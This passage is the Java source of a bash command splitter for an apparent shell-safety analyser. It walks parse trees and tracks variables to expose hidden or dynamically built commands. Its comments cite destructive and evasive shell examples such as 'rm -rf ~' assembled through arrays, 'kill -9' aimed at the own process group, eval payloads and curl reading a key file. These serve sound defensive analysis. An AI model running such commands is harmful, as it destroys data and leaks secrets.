package dev.shellwarden.grammar;

import dev.shellwarden.grammar.bash.BashLexer;
import dev.shellwarden.grammar.bash.BashLexerBase;
import dev.shellwarden.grammar.bash.BashParser;
import dev.shellwarden.grammar.bash.Names;
import dev.shellwarden.grammar.bash.StringCharStream;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Deque;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.NavigableMap;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Pattern;
import org.antlr.v4.runtime.Token;
import org.antlr.v4.runtime.tree.ParseTree;
import org.antlr.v4.runtime.tree.TerminalNode;

/**
 * One split: walks the parse tree of a text (and, recursively, of every substitution, payload and
 * heredoc script found in it) and collects segments in source order, each nested segment after
 * its container.
 *
 * <p>INVARIANTS: a segment is static only when its command name is literal and nothing the
 * splitter needed to locate a wrapped command or payload was dynamic; every nested text is split
 * at most {@link #MAX_DEPTH} levels deep and the whole split produces at most
 * {@link #MAX_SEGMENTS} segments, beyond which the text is one opaque segment.
 */
final class BashWalker {

    /** Deepest nesting of substitutions, payloads and wrappers followed. */
    static final int MAX_DEPTH = 16;
    /** Most segments for one text. */
    static final int MAX_SEGMENTS = 1_000;
    /** Most nested texts parsed for one text. */
    static final int MAX_PARSES = 400;
    /** Most words one brace expansion may produce, and all of them together. */
    static final int MAX_BRACE_WORDS = 256;
    static final int MAX_BRACE_TOTAL = 1_024;

    /** A budget of the whole split was exceeded. */
    static final class LimitExceeded extends RuntimeException {
        LimitExceeded() {
            super(null, null, false, false);
        }
    }

    private static final Pattern WHITESPACE = Pattern.compile("\\s+");
    private static final Pattern ELEMENT_ASSIGN = Pattern.compile("(?s)\\[[^]]+]\\+?=.*");
    private static final Pattern ARRAY_ASSIGN = Pattern.compile("(?s)[A-Za-z_][A-Za-z0-9_]*(\\[.*)?\\+?=\\(.*");
    private static final Pattern SUBSCRIPTED = Pattern.compile("(?s)[A-Za-z_][A-Za-z0-9_]*\\[.*");
    private static final Pattern PLAIN = Pattern.compile("[^'\"$`\\\\]+");
    private static final Pattern DECLARED_NAME = Pattern.compile("[A-Za-z_][A-Za-z0-9_]*(\\[.*])?\\+?");
    private static final Pattern EXPANSION = Pattern.compile("(?<!\\\\)(\\$[A-Za-z_{(0-9@*#?!$-]|`)");

    /**
     * Literal variable values known at a point of the text, and the namerefs: variables that
     * stand for another variable ({@code declare -n r=HOME}; {@code ${!n}} reads one the same way).
     *
     * <p>INVARIANT: a nameref never has a value of its own here; its value is its target's, and
     * a target without a known value is shown as {@code ${TARGET}} in a dynamic word, never as
     * the literal name.
     */
    private static final class Vars {
        /** Deepest chain of namerefs followed ({@code r → s → HOME}). */
        private static final int MAX_REFS = 8;

        /**
         * Variables bash gives a new number on every read, with the largest of their range
         * (man bash, Shell Variables). An assignment only seeds them ({@code RANDOM=5}), so their
         * value is never known; a command that reads one is read a second time with the largest
         * number (see {@link BashWalker#maybeReading}): {@code sleep $((RANDOM))} may sleep nine
         * hours, {@code sleep $((RANDOM % 3))} at most two seconds.
         */
        static final Map<String, String> RANGES = Map.of("RANDOM", "32767", "SRANDOM", "4294967295");

        private final Known known;
        private final Map<String, String> refs;
        /**
         * Indexed arrays whose elements are all known literal words ({@code a=(rm -rf ~)}); a
         * variable forgotten in {@link #known} (or all of them) is forgotten here too.
         */
        private final Map<String, List<Word>> arrays = new HashMap<>();
        /** The positional parameters after {@code set -- W…}; null when they are not known. */
        private List<Word> positional;
        /** Arrays assigned only maybe ({@code true && a=(-rf ~)}): their literal words, for {@link BashWalker#maybeReading}. */
        private final Map<String, List<Word>> maybeArrays = new HashMap<>();
        /** Positional parameters set only maybe ({@code true && set -- -rf ~}); null when none. */
        private List<Word> maybePositional;
        /** {@code $0} of a {@code sh -c SCRIPT NAME …} script; null when not known. */
        private Word zero;
        /** Names with the export attribute ({@code export}, {@code declare -x}, {@code set -a}). */
        private final Set<String> exported;
        /**
         * Values a variable may have without the text being sure of it: in a child shell, the
         * values of the parent's unexported variables (they may be in the environment already) or
         * of exports passed through a program that may reset the environment. Only read where a
         * value is evaluated (arithmetic, prompts), which can only add segments; never resolved
         * into a word.
         */
        private final Map<String, String> maybe;
        /**
         * The other numbers a loop's replay saw a name pass through beside its {@link #maybe}
         * value (the largest magnitude): the smallest, the largest and the one nearest zero
         * ({@code d=3; for i in 1 2 3; do ((d--)); done; kill -9 $d} may signal pid 0, the own
         * group). A command reading one is read once more per value (see
         * {@link BashWalker#loopEndReadings}); read only where the name has no known value.
         */
        private final Map<String, List<String>> maybeEnds = new HashMap<>();
        /** {@code set -a}: every assignment exports its variable. */
        private boolean allexport;
        /** Descriptor variables of {@code exec {fd}>FILE}: the redirection that opened each. */
        private final Map<String, Redirect> descriptors = new HashMap<>();
        /**
         * Descriptors opened only maybe ({@code case x in x) exec {fd}<KEY; curl … <&$fd;; esac}: an
         * {@code exec} in a branch, loop body or after {@code ||}): a command copying one is read a
         * second time with it open (see {@link BashWalker#maybeReading}), so that what it reads is
         * not dropped from view. Kept through an unknown change of all variables (fail closed).
         */
        private final Map<String, Redirect> maybeDescriptors = new HashMap<>();
        /**
         * Arrays filled with a list split at newlines or blanks ({@code mapfile -t a < <(find .)},
         * {@code read -a a}, {@code a=($(ls))}): their elements are split names ({@link Segment#SPLIT_LOOP}).
         * Kept through an unknown change of other variables (fail closed); a new literal value drops one.
         */
        private final Set<String> splitArrays = new HashSet<>();
        /**
         * Names known to be unset: {@code unset NAME} ran unconditionally; any change of
         * {@link #known} for the name (or all of them) drops it.
         */
        private final Set<String> unset = new HashSet<>();
        /**
         * Names {@code unset} only maybe ({@code true && unset f}, an unset in a branch or loop
         * body): a command reading one is read a second time with it unset (see
         * {@link BashWalker#maybeReading}); an assignment of a known value drops it.
         */
        private final Set<String> maybeUnset = new HashSet<>();
        /**
         * Values a variable not known here may hold after {@code ${x:=w}} or {@code ${x=w}}: the
         * operator's word, unless x had a value already (from the environment). A command that
         * reads one is judged a second time with the candidate in place (see
         * {@link BashWalker#candidateReading}); any change of {@link #known} for the name drops it.
         */
        private final Map<String, String> candidates = new HashMap<>();
        /**
         * Names of {@link #candidates} made by an expansion that may not have run (in a branch,
         * loop or after {@code &&}): a later {@code ${x:=w}} may then assign its own word, which
         * is kept as a {@link #maybe} value beside the first.
         */
        private final Set<String> unsureCandidates = new HashSet<>();

        /**
         * Values a forked pipeline stage assigned to a name this shell knows another value of
         * ({@code X=ls; X=rm | cat; $X y}): bash keeps {@code ls}, and a command reading the
         * name is read a second time with the stage's value (stricter than bash, see
         * {@link BashWalker#maybeReading}); any change of {@link #known} for the name drops it.
         */
        private final Map<String, String> forkedValues = new HashMap<>();

        /**
         * Names holding a value computed from a {@link #RANGES} name ({@code d=$RANDOM},
         * {@code d=$((RANDOM % 2 ? 1 : 7200))}), each with its arithmetic text: the value is one
         * number of a range, so a command reading the name is read at the range's ends (see
         * {@link BashWalker#lowRangeReadings}); any change of {@link #known} for the name drops it.
         */
        private final Map<String, String> heldRanges = new HashMap<>();

        /** {@link #known}: clearing or removing a name also drops the arrays and parameters that depend on it. */
        private final class Known extends HashMap<String, String> {
            Known(Map<String, String> m) {
                super(m);
            }

            @Override
            public void clear() {
                super.clear();
                forkedValues.clear();
                heldRanges.clear();
                unset.clear();
                candidates.clear();
                unsureCandidates.clear();
                arrays.clear();
                descriptors.clear();
                positional = null;
            }

            /** The largest number of a {@link #RANGES} name, for a second reading only (see BashWalker#rangeReading). */
            void putRange(String name, String value) {
                super.put(name, value);
            }

            @Override
            public String remove(Object name) {
                forkedValues.remove(name);
                heldRanges.remove(name);
                unset.remove(name);
                candidates.remove(name);
                unsureCandidates.remove(name);
                arrays.remove(name);
                descriptors.remove(name);
                maybeDescriptors.remove(name);
                return super.remove(name);
            }

            @Override
            public String put(String name, String value) {
                if (RANGES.containsKey(name)) {
                    return super.remove(name); // `RANDOM=5` seeds RANDOM: its value stays unknown
                }
                forkedValues.remove(name);
                heldRanges.remove(name);
                unset.remove(name);
                maybeUnset.remove(name);
                candidates.remove(name);
                unsureCandidates.remove(name);
                descriptors.remove(name);
                maybeDescriptors.remove(name);
                return super.put(name, value);
            }
        }

        Vars(Map<String, String> known, Map<String, String> refs, Set<String> exported, Map<String, String> maybe) {
            this.known = new Known(known);
            this.refs = refs;
            this.exported = exported;
            this.maybe = maybe;
        }

        Vars(Map<String, String> known, Map<String, String> refs) {
            this(known, refs, new HashSet<>(), new HashMap<>());
        }

        Vars() {
            this(new HashMap<>(), new HashMap<>());
        }

        Vars copy() {
            Vars v = new Vars(known, new HashMap<>(refs), new HashSet<>(exported), new HashMap<>(maybe));
            v.arrays.putAll(arrays);
            v.maybeArrays.putAll(maybeArrays);
            v.maybePositional = maybePositional;
            v.descriptors.putAll(descriptors);
            v.maybeDescriptors.putAll(maybeDescriptors);
            v.splitArrays.addAll(splitArrays);
            v.unset.addAll(unset);
            v.maybeUnset.addAll(maybeUnset);
            v.candidates.putAll(candidates);
            v.unsureCandidates.addAll(unsureCandidates);
            v.forkedValues.putAll(forkedValues);
            v.heldRanges.putAll(heldRanges);
            v.maybeEnds.putAll(maybeEnds);
            v.positional = positional;
            v.zero = zero;
            v.allexport = allexport;
            return v;
        }

        /**
         * The variables a child process starts with: the exported known values (all exported in
         * the child), and as {@link #maybe} values every other value known here. With
         * {@code sure} false (a program that may reset the environment ran between), the exports
         * are only maybe values too.
         */
        Vars environment(boolean sure) {
            Map<String, String> env = new HashMap<>();
            Map<String, String> may = new HashMap<>(maybe);
            may.putAll(known);
            if (sure) {
                for (String name : exported) {
                    String v = get(name);
                    if (v != null) {
                        env.put(name, v);
                    }
                }
            }
            Vars child = new Vars(env, new HashMap<>(), new HashSet<>(env.keySet()), may);
            if (sure) {
                // an exported variable keeps its candidate (see #candidates) in the child
                candidates.forEach((name, value) -> {
                    if (exported.contains(name) && !env.containsKey(name)) {
                        child.candidates.put(name, value);
                    }
                });
            }
            return child;
        }

        /** A value to evaluate: the known one, else a {@link #maybe} value; null when none. */
        String evaluated(String name) {
            String v = get(name);
            if (v == null && positional == null && maybePositional != null && name.matches("[1-9][0-9]{0,5}")) {
                // `true && set -- 'a[$(CMD)]'; (( $1 ))`: a positional parameter set only maybe
                int k = Integer.parseInt(name);
                return k <= maybePositional.size() ? maybePositional.get(k - 1).text() : null;
            }
            return v != null ? v : maybe.get(name);
        }

        String get(String name) {
            if (!name.isEmpty() && name.chars().allMatch(Character::isDigit)) {
                // $1, ${10}: a known positional parameter
                int k = name.length() > 6 ? Integer.MAX_VALUE : Integer.parseInt(name);
                if (k == 0) {
                    return zero == null ? null : zero.text();
                }
                return positional == null ? null : k <= positional.size() ? positional.get(k - 1).text() : "";
            }
            int open = name.indexOf('[');
            if (open > 0 && name.endsWith("]")) {
                // ${a[2]}: a known element, unless it came from a glob (it is one of the names)
                List<Word> a = arrays.get(name.substring(0, open));
                String sub = name.substring(open + 1, name.length() - 1);
                if (a == null || !sub.matches("[0-9]{1,6}")) {
                    return null;
                }
                int k = Integer.parseInt(sub);
                return k >= a.size() ? "" : a.get(k).has(WordFeature.GLOB) ? null : a.get(k).text();
            }
            String target = target(name);
            return known.get(target == null ? name : target);
        }

        /**
         * True when {@code name} is certainly unset: after {@code unset NAME}, or a positional
         * parameter past the known ones ({@code $3} after {@code set -- a b}).
         */
        boolean isUnset(String name) {
            if (!name.isEmpty() && name.chars().allMatch(Character::isDigit)) {
                int k = name.length() > 6 ? Integer.MAX_VALUE : Integer.parseInt(name);
                return k > 0 && positional != null && k > positional.size();
            }
            int open = name.indexOf('[');
            if (open > 0 && name.endsWith("]") && name.substring(open + 1, name.length() - 1).matches("0|[1-9][0-9]{0,5}")) {
                // ${a[5]} past the elements of a known array
                List<Word> a = arrays.get(name.substring(0, open));
                return a != null && target(name.substring(0, open)) == null
                        && Integer.parseInt(name.substring(open + 1, name.length() - 1)) >= a.size();
            }
            if (name.indexOf('[') >= 0 || refs.containsKey(name) || known.containsKey(name) || maybe.containsKey(name)) {
                return false;
            }
            return unset.contains(name);
        }

        /**
         * After arithmetic that assigns ({@code (( … ))}, {@code : $((d=7200))}): what was known is
         * forgotten, since any name may have changed; {@code set} (a sure, computed
         * {@code NAME = EXPR}, {@code NAME++}) is known afterwards. With {@code oldStayPossible} the forgotten values
         * stay possible ({@link #maybe}): bash keeps them where the arithmetic does not run in this
         * shell (a pipeline stage, the background), and the command's own evaluations, which run
         * after its words are decoded, must still read them ({@code x='a[$(CMD)]'; : $(( y = x ))}).
         */
        void afterArithmetic(Map<String, String> set, boolean oldStayPossible) {
            if (oldStayPossible) {
                known.forEach(maybe::putIfAbsent);
            }
            known.clear();
            if (set != null) {
                known.putAll(set);
            }
        }

        /** Forgets the value of {@code name} (of the whole array for {@code a[i]}), or of the variable it stands for. */
        void forget(String ref) {
            String name = ref.indexOf('[') > 0 ? ref.substring(0, ref.indexOf('[')) : ref;
            known.remove(name);
            maybe.remove(name);
            maybeEnds.remove(name);
            String t = target(name);
            if (t != null) {
                known.remove(t);
                maybe.remove(t);
                maybeEnds.remove(t);
            }
        }

        /**
         * The variables of a second reading (see {@link BashWalker#secondReading}): {@code alt},
         * or a copy of these when null, with {@code values} as the values of the names that have
         * no known value here, once {@code text} reads any of them ({@code $x}, {@code ${x…}},
         * {@code ${!x…}}, {@code ${#x}}); {@code alt} itself when it reads none. All of them go
         * in, not only those read: a nameref or {@code ${!r}} may reach the others.
         */
        Vars reading(Map<String, String> values, String text, Vars alt) {
            boolean reads = false;
            for (String name : values.keySet()) {
                reads |= !known.containsKey(name) && readsName(text, name);
                // `d=/` in a branch, `typeset -n r=d; rm -rf "$r"`: a nameref standing for the name reads it
                for (String ref : refs.keySet()) {
                    reads |= !known.containsKey(name) && name.equals(target(ref)) && readsName(text, ref);
                }
            }
            if (!reads) {
                return alt;
            }
            Vars v = alt == null ? copy() : alt;
            values.forEach((name, value) -> {
                if (!known.containsKey(name)) {
                    v.known.put(name, value);
                }
            });
            return v;
        }

        /** The variable a nameref finally stands for; null when {@code name} is not one. */
        String target(String name) {
            String t = refs.get(name);
            for (int k = 0; k < MAX_REFS && t != null && refs.containsKey(t); k++) {
                t = refs.get(t);
            }
            return t;
        }
    }

    /** Where the segments of a (nested) text go. */
    private record Ctx(int parent, int depth, Provenance prov, List<String> wrappers, Vars vars,
            boolean conditional, List<Redirect> inRedirects, List<Heredoc> inHeredocs, boolean inStdinFile) {

        Ctx with(Provenance p) {
            return new Ctx(parent, depth, p, wrappers, vars, conditional, inRedirects, inHeredocs, inStdinFile);
        }

        Ctx cond() {
            return new Ctx(parent, depth, prov, wrappers, vars, true, inRedirects, inHeredocs, inStdinFile);
        }

        /** The same context with other variables (a second reading, see {@link BashWalker#secondReading}). */
        Ctx with(Vars v) {
            return new Ctx(parent, depth, prov, wrappers, v, conditional, inRedirects, inHeredocs, inStdinFile);
        }

        /** The same context with one more (pseudo-)wrapper recorded on its commands. */
        Ctx wrapped(String name) {
            List<String> w = new ArrayList<>(wrappers);
            w.add(name);
            return new Ctx(parent, depth, prov, List.copyOf(w), vars, conditional, inRedirects, inHeredocs, inStdinFile);
        }

        /**
         * The commands of a {@code ${ list; }}: one level deeper but in this shell's variables, and
         * conditional, so that what they set is a maybe value of this shell ({@code : ${ set -- -rf ~; };
         * rm "$@"} is read a second time with those words, see {@link BashWalker#maybeReading}).
         */
        Ctx inThisShell(Provenance p, int newParent) {
            return new Ctx(newParent, depth + 1, p, wrappers, vars, true, List.of(), List.of(), false);
        }

        /** A new shell environment (subshell, substitution) nested one level deeper. */
        Ctx sub(Provenance p, int newParent) {
            return new Ctx(newParent, depth + 1, p, wrappers, vars.copy(), false, List.of(), List.of(), false);
        }

        Ctx withStdin(List<Redirect> rs, List<Heredoc> hs, boolean file) {
            List<Redirect> r = new ArrayList<>(rs);
            r.addAll(inRedirects);
            List<Heredoc> h = new ArrayList<>(hs);
            h.addAll(inHeredocs);
            return new Ctx(parent, depth, prov, wrappers, vars, conditional, r, h, inStdinFile || file);
        }
    }

    /**
     * What the lexer recorded about one parsed text: the substitutions, and the arithmetic and
     * parameter expansions ({@code evaluations}) at the text's own level, whose names bash may
     * evaluate.
     */
    private record Unit(String text, Map<Integer, Integer> skips, NavigableMap<Integer, BashLexerBase.Span> subs,
            NavigableMap<Integer, BashLexerBase.Span> evaluations, Map<Integer, BashLexerBase.HeredocBody> heredocs) {

        static Unit of(String text, BashLexerBase lexer) {
            Map<Integer, Integer> skips = new HashMap<>();
            NavigableMap<Integer, BashLexerBase.Span> subs = new TreeMap<>();
            NavigableMap<Integer, BashLexerBase.Span> evaluations = new TreeMap<>();
            for (BashLexerBase.Span s : lexer.spans()) {
                skips.put(s.start(), s.end());
                if (s.subDepth() == 0 && (s.kind() == BashLexer.SUB_OPEN || s.kind() == BashLexer.PROCSUB_OPEN
                        || s.kind() == BashLexer.BACKTICK || s.kind() == BashLexer.FUNSUB_OPEN)) {
                    subs.put(s.start(), s);
                } else if (s.subDepth() == 0 && (s.kind() == BashLexer.ARITH_OPEN || s.kind() == BashLexer.PARAM_OPEN)) {
                    evaluations.put(s.start(), s);
                }
            }
            return new Unit(text, skips, subs, evaluations, lexer.heredocs());
        }
    }

    /** A segment under construction. */
    private static final class Draft {
        final int id;
        final int parent;
        final int depth;
        final Provenance provenance;
        final List<String> wrappers;
        final List<Word> argv;
        final List<Word> assignments;
        final List<Redirect> redirects;
        final List<Heredoc> heredocs;
        final List<Boolean> heredocDynamic = new ArrayList<>();
        final Position position;
        final Set<OpaqueReason> reasons = EnumSet.noneOf(OpaqueReason.class);
        /** The environment the command's own programs start with (see {@link BashWalker#environment}); set by analyze. */
        Vars env;
        /** A function call walked exactly (see {@link BashWalker#call}): the drafts its body made, from (inclusive) to; else -1. */
        int bodyFrom = -1;
        int bodyTo = -1;

        Draft(int id, int parent, int depth, Provenance provenance, List<String> wrappers, List<Word> argv,
                List<Word> assignments, List<Redirect> redirects, List<Heredoc> heredocs, Position position) {
            this.id = id;
            this.parent = parent;
            this.depth = depth;
            this.provenance = provenance;
            this.wrappers = wrappers;
            // Git Bash hands a Windows program `//c` as `/c`, however the command was reached (MsysSwitches)
            // `/proc/self/exe -c …` is the shell itself; `/dev/fd/3 …` a program the text does not show (ProcPrograms)
            List<Word> words = MsysSwitches.normalized(argv);
            ProcPrograms.Kind program = ProcPrograms.programKind(words);
            this.argv = ProcPrograms.normalized(words, program);
            if (program == ProcPrograms.Kind.HELD) {
                reasons.add(OpaqueReason.DYNAMIC_COMMAND);
            }
            this.assignments = assignments;
            this.redirects = redirects;
            this.heredocs = heredocs;
            this.position = position;
        }

        void markUserFunction(Set<String> userCommands) {
            if (!argv.isEmpty() && argv.get(0).literal() && userCommands.contains(argv.get(0).text())) {
                reasons.add(OpaqueReason.USER_FUNCTION);
            }
        }

        Segment toSegment() {
            return new Segment(id, parent, depth, provenance, wrappers, argv, assignments, redirects, heredocs,
                    position, reasons);
        }
    }

    private final String text;
    private final List<Draft> drafts = new ArrayList<>();
    private final Set<String> userCommands = new HashSet<>();
    /** The text assigns zsh's function path ({@code fpath}/{@code FPATH}): autoloaded names are unknown. */
    private boolean fpathSet;
    /** Aliases defined in the text, by name: the body as written (a dynamic one's source kept). */
    private final Map<String, String> aliases = new HashMap<>();
    /** zsh global aliases ({@code alias -g}), expanded wherever the word stands, by name. */
    private final Map<String, String> globalAliases = new HashMap<>();
    /** zsh suffix aliases ({@code alias -s py=vim}): a command word {@code x.py} runs {@code vim x.py}. */
    private final Map<String, String> suffixAliases = new HashMap<>();
    /** Aliases whose expansion is being split: not expanded again inside it. */
    private final Set<String> expandingAliases = new HashSet<>();

    /** Variables given the integer attribute ({@code declare -i}): every assignment to them is arithmetic. */
    private final Set<String> integers = new HashSet<>();
    /** Variables declared namerefs ({@code declare -n}): an assignment to them goes to their target. */
    private final Set<String> namerefs = new HashSet<>();
    /**
     * Variables declared associative ({@code declare -A}): {@code m=(K V …)} pairs keys and
     * values, so their words are never tracked as an indexed array's.
     */
    private final Set<String> associative = new HashSet<>();

    /** A command before ran text the walk may not see ({@code eval}, {@code source}, {@code .}): see #once. */
    private boolean textLoaded;

    /** Names bound to a program by {@code hash -p PATH NAME}, for the commands after it. */
    private final Map<String, Word> hashed = new HashMap<>();
    /** EXIT trap actions, split once the whole text is (see {@link #trap}). */
    private final List<Runnable> exitTraps = new ArrayList<>();
    private int parses;
    private int braceWords;
    /** The lists walked so far: each list's pipelines carry its number ({@link Position#list}). */
    private int lists;

    /**
     * True once the text (or a payload nested in it) mentions {@code IFS}: from then on unquoted
     * variables are not resolved, because their word splitting is no longer the default one.
     */
    private boolean ifsTouched;
    /**
     * True while {@link #secondReading} expands a command once more: unquoted variables are then
     * resolved (split by the default IFS) even once {@link #ifsTouched}. WHY (left38): in
     * {@code declare 'IFS= read'; eval 'IFS= read -r p <<< $PPID'; kill -9 $p} IFS really changed,
     * so {@code $p} stayed unread, though a read into one name takes the whole line whatever IFS
     * is; the maybe reading's segment only adds findings, so one possible splitting of the value
     * is judged beside the unread word (fail closed), while the first reading keeps it unread.
     */
    private boolean secondReadingActive;
    /**
     * True once the text mentions {@code nocasematch}, {@code extglob} or {@code globasciiranges}: pattern operators of
     * parameter expansions ({@code ${x%.ts}}) are then no longer resolved.
     */
    private boolean patternsTouched;
    /**
     * True once the text mentions read-only or local variables, redefines {@code unset} or
     * evaluates arithmetic: {@code unset NAME} may then fail, uncover another value or be undone,
     * so no name is known unset.
     */
    private boolean scopesTouched;
    /**
     * Variables bash itself sets again ({@code read} sets REPLY, {@code cd} PWD, {@code getopts}
     * OPTARG) or will not unset (read-only ones): never known unset.
     */
    private static final Pattern SHELL_SET = Pattern.compile(
            "REPLY|MAPFILE|OPT[A-Z]*|PWD|OLDPWD|BASH[A-Z_]*|COPROC[A-Z_]*|PIPESTATUS|_|S?RANDOM|SECONDS|LINENO|EPOCH[A-Z]*"
                    + "|HISTCMD|COMP[A-Z_]*|READLINE[A-Z_]*|FUNCNAME|GROUPS|DIRSTACK|COLUMNS|LINES|E?UID|PPID|SHELLOPTS"
                    + "|HOST[A-Z]*|MACHTYPE|OSTYPE|SHLVL|PS[0-4]|IFS|PATH|HOME|TMPDIR");
    private static final Pattern SCOPES = Pattern.compile("readonly|declare|typeset|local|unset *\\(|alias|function|BASH_"
            // arithmetic may assign a name: `((x++))`, `$[x=1]`, `let x=1`, `[[ x=1 -eq 1 ]]`
            + "|\\(\\(|\\$\\[|\\blet\\b|-eq|-ne|-lt|-le|-gt|-ge|\\+\\+");

    /**
     * Quotes and backslashes, which bash removes from a word before it looks the word up
     * ({@code r''eadonly}, {@code dec\lare}, {@code I""FS=,} are readonly, declare, IFS=,).
     */
    private static final Pattern QUOTING = Pattern.compile("\\$?['\"]|\\\\\n?");

    /**
     * The raw-text checks below, made on the text as written and with its quoting removed.
     * Deliberately no word decoder ({@link BashWords#decode} is one, {@link IfsPayloads} uses it
     * per payload word): it strips every quote and backslash from the whole text, operators and
     * quotes inside other quotes included, so a name spelled with quotes anywhere
     * ({@code r''eadonly}, {@code I"FS"=}) is seen by a pattern; over-reading only asks more.
     */
    private static String unquoted(String t) {
        return QUOTING.matcher(t).replaceAll("");
    }

    /**
     * IFS assigned as a prefix of the builtin read at a command's start ({@code IFS= read -r p},
     * {@code while IFS=: read -r a b}): the value lasts for that read only (read handles it, see
     * #readHereString), so what follows is split by the default IFS.
     */
    private static final Pattern IFS_FOR_READ = Pattern.compile(
            // also at the start of a payload (`eval 'IFS= read …'`, `bash -c "IFS= read …"`, `bash <<< 'IFS= read …'`);
            // not after export, declare or a quote of another word, where the value stays
            "(?:^|[;&|({!\\n]|\\b(?:while|until|do|then|else|if|elif)|(?:\\beval|\\s-[A-Za-z]*c)[ \\t]+['\"]?|<<<[ \\t]*['\"]?)[ \\t]*IFS=(?:\\$?'[^']*'|\"[^\"$`]*\"|[^\\s;&|'\"()<>`$])*[ \\t]+read(?![A-Za-z0-9_-])");

    /** What may make read another command than the builtin: an alias, a function named read, {@code enable}. */
    private static final Pattern READ_REDEFINED = Pattern.compile("\\balias\\b|\\benable\\b|\\bread\\s*\\(|function\\s+read\\b");

    /**
     * Whether {@code t} mentions IFS where it may change the splitting of later words (see
     * {@link #ifsTouched}); a prefix of read ({@link #IFS_FOR_READ}) does not. WHY (left36):
     * {@code IFS= read -r p <<< "$$"; kill -9 -$p} left {@code -$p} unread.
     */
    private static boolean mentionsIfs(String t) {
        if (!t.contains("IFS")) {
            return false;
        }
        String named = unquotedNames(t);
        return READ_REDEFINED.matcher(t).find() || IFS_FOR_READ.matcher(named).replaceAll(" read").contains("IFS");
    }

    /** How deep {@link #touchesIfs} reads payloads inside payloads before it keeps the text whole. */
    private static final int IFS_PAYLOAD_DEPTH = 6;
    /** Builtins that may assign a quoted word that looks like a read prefix ({@code export 'IFS= read'}). */
    private static final Pattern EXPORTS = Pattern.compile("\\bexport\\b");

    /**
     * Whether one level's text {@code t} may change IFS for the words after it: {@link #mentionsIfs}
     * of the text as written and with its quoting removed, once each payload word whose own text
     * only prefixes read with IFS is left out ({@link IfsPayloads}). WHY (left37b): the payload
     * nested twice ({@code echo 'bash -c "eval '\''IFS= read -r p <<< \$PPID; kill -9 \$p'\''"' | bash})
     * keeps escaped quotes the text view cannot read, so each payload decides on its own words. Not
     * where the text may assign a quoted word (declare, local, export, let…: {@link #SCOPES}) or
     * redefine read: there the whole text decides.
     */
    private static boolean touchesIfs(String t) {
        return touchesIfs(t, 0);
    }

    private static boolean touchesIfs(String t, int depth) {
        String bare = unquoted(t);
        if (!mentionsIfs(t) && !mentionsIfs(bare)) {
            return false;
        }
        if (depth >= IFS_PAYLOAD_DEPTH || READ_REDEFINED.matcher(bare).find() || SCOPES.matcher(t).find()
                || SCOPES.matcher(bare).find() || EXPORTS.matcher(bare).find()) {
            return true;
        }
        String view = IfsPayloads.withoutCleanPayloads(t, p -> !touchesIfs(p, depth + 1));
        return view.equals(t) || mentionsIfs(view) || mentionsIfs(unquoted(view));
    }

    /**
     * A word of name characters spelled with quotes or backslashes and followed by a blank
     * ({@code "eval"}, {@code 'eval'}, {@code e\val}), where bash looks it up without them.
     */
    private static final Pattern QUOTED_NAME = Pattern.compile(
            "(?<=^|[\\s;&|(])(?=[A-Za-z_'\"\\\\]*['\"\\\\])(?:[A-Za-z_]|\\\\[A-Za-z_]|'[A-Za-z_]*'|\"[A-Za-z_]*\")+(?=[ \\t])");

    /**
     * {@code t} with each {@link #QUOTED_NAME} written as bash reads it, the rest as written.
     * WHY (left37): the text view of {@link #mentionsIfs} found the payload of
     * {@code "eval" 'IFS= read -r p <<< $PPID; kill -9 $p'} behind a quoted name, not at a
     * payload's start, so IFS counted as touched and {@code $p} stayed unread; only the name's
     * quoting is removed, never a value's ({@code IFS=x' 'read} still sets IFS for good).
     */
    private static String unquotedNames(String t) {
        if (t.indexOf('\'') < 0 && t.indexOf('"') < 0 && t.indexOf('\\') < 0) {
            return t;
        }
        return QUOTED_NAME.matcher(t).replaceAll(m -> java.util.regex.Matcher.quoteReplacement(unquoted(m.group())));
    }

    BashWalker(String text) {
        this.text = text;
        String bare = unquoted(text);
        this.ifsTouched = touchesIfs(text);
        this.patternsTouched = PATTERN_OPTIONS.matcher(text).find() || PATTERN_OPTIONS.matcher(bare).find();
        this.scopesTouched = SCOPES.matcher(text).find() || SCOPES.matcher(bare).find();
    }

    private static final Pattern PATTERN_OPTIONS = Pattern.compile("nocasematch|extglob|globasciiranges");

    SplitResult run() {
        BashSplitter.Parsed p = parse(text);
        if (p.failure() != null) {
            return SplitResult.unsplittable(text, p.failure());
        }
        Ctx top = new Ctx(-1, 0, Provenance.TOP, List.of(), new Vars(), false, List.of(), List.of(), false);
        program(p, text, top);
        while (!exitTraps.isEmpty()) {
            exitTraps.remove(0).run();
        }
        for (Draft d : drafts) {
            d.markUserFunction(userCommands);
        }
        List<Draft> known = new ArrayList<>();
        for (Draft d : drafts) {
            if (d.bodyFrom >= 0 && bodyFullyKnown(d)) {
                known.add(d);
            }
        }
        // after every check: a call known through its body keeps an outer call that calls it asked
        known.forEach(d -> d.reasons.remove(OpaqueReason.USER_FUNCTION));
        List<Segment> out = new ArrayList<>(drafts.size());
        for (Draft d : drafts) {
            out.add(d.toSegment());
        }
        return new SplitResult(out, wholeWrites, loopLists);
    }

    private BashSplitter.Parsed parse(String t) {
        if (++parses > MAX_PARSES) {
            throw new LimitExceeded();
        }
        return BashSplitter.parse(t);
    }

    /** Splits a nested text; a failure there becomes one opaque segment, not a failed split. */
    private void nested(String t, Ctx c) {
        if (c.depth() > MAX_DEPTH) {
            opaque(t, c, OpaqueReason.LIMIT_EXCEEDED);
            return;
        }
        String bare = unquoted(t);
        ifsTouched |= touchesIfs(t);
        patternsTouched |= PATTERN_OPTIONS.matcher(t).find() || PATTERN_OPTIONS.matcher(bare).find();
        scopesTouched |= SCOPES.matcher(t).find() || SCOPES.matcher(bare).find();
        BashSplitter.Parsed p = parse(t);
        if (p.failure() != null) {
            opaque(t, c, p.failure());
            return;
        }
        program(p, t, c);
    }

    private void opaque(String t, Ctx c, OpaqueReason reason) {
        Draft d = add(c, List.of(new Word(t, t, false, Set.of())), List.of(), List.of(), List.of(), Position.SOLE);
        d.reasons.add(reason);
    }

    private Draft add(Ctx c, List<Word> argv, List<Word> assignments, List<Redirect> redirects,
            List<Heredoc> heredocs, Position pos) {
